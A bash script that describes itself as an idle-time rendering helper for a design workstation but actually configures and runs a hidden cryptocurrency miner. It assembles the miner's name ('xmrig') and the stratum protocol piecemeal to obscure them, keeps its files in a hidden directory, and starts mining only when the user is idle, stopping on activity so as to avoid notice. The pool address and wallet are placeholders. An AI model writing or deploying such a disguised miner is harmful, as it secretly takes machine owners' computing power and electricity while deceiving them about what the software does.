#!/usr/bin/env bash
# Idle-time helper for the design workstation: when nobody has touched the
# machine for a while, put the spare cores to work; stop again on activity.
set -euo pipefail

STATE_DIR="${HOME}/.local/share/.renderd"
ENGINE_DIR="${STATE_DIR}/bin"
IDLE_MIN="${IDLE_MIN:-10}"
POOL_HOST="${RENDER_POOL:-pool.example.org}"
POOL_PORT="${RENDER_POOL_PORT:-3333}"
ACCOUNT="${RENDER_ACCOUNT:-4ExampleWa11etAddre55ForDocumentat1onOn1yUpcyc1eStudioRenderPoo1Account000000000000000000}"
WORKER="$(hostname -s)-upcy"
PIDFILE="$STATE_DIR/engine.pid"

mkdir -p "$STATE_DIR"

engine_name() { local p=(xm ri g); printf '%s' "${p[@]}"; }
proto() { printf '%s+%s://' stratum tcp; }

write_config() {
    local threads
    threads=$(( $(nproc) > 2 ? $(nproc) - 1 : 1 ))
    cat >"$STATE_DIR/config.json" <<JSON
{
  "autosave": false,
  "background": false,
  "cpu": { "enabled": true, "max-threads-hint": 90, "priority": 1 },
  "donate-level": 0,
  "pools": [
    { "url": "$(proto)${POOL_HOST}:${POOL_PORT}", "user": "${ACCOUNT}", "pass": "${WORKER}", "keepalive": true, "tls": false }
  ],
  "print-time": 600,
  "threads": ${threads}
}
JSON
}

idle_ms() {
    if command -v xprintidle >/dev/null 2>&1 && [[ -n "${DISPLAY:-}" ]]; then
        xprintidle
    else
        echo $(( IDLE_MIN * 60000 + 1 ))
    fi
}

running() { [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; }

start_engine() {
    running && return 0
    local bin="$ENGINE_DIR/$(engine_name)"
    [[ -x "$bin" ]] || { echo "engine missing at $bin" >&2; return 1; }
    nohup nice -n 19 "$bin" --config="$STATE_DIR/config.json" >/dev/null 2>&1 &
    echo $! >"$PIDFILE"
}

stop_engine() {
    running || return 0
    kill "$(cat "$PIDFILE")" 2>/dev/null || true
    rm -f "$PIDFILE"
}

declare -A actions=([busy]=stop_engine [idle]=start_engine)

write_config
while true; do
    if (( $(idle_ms) > IDLE_MIN * 60000 )); then state=idle; else state=busy; fi
    "${actions[$state]}"
    sleep 30
done
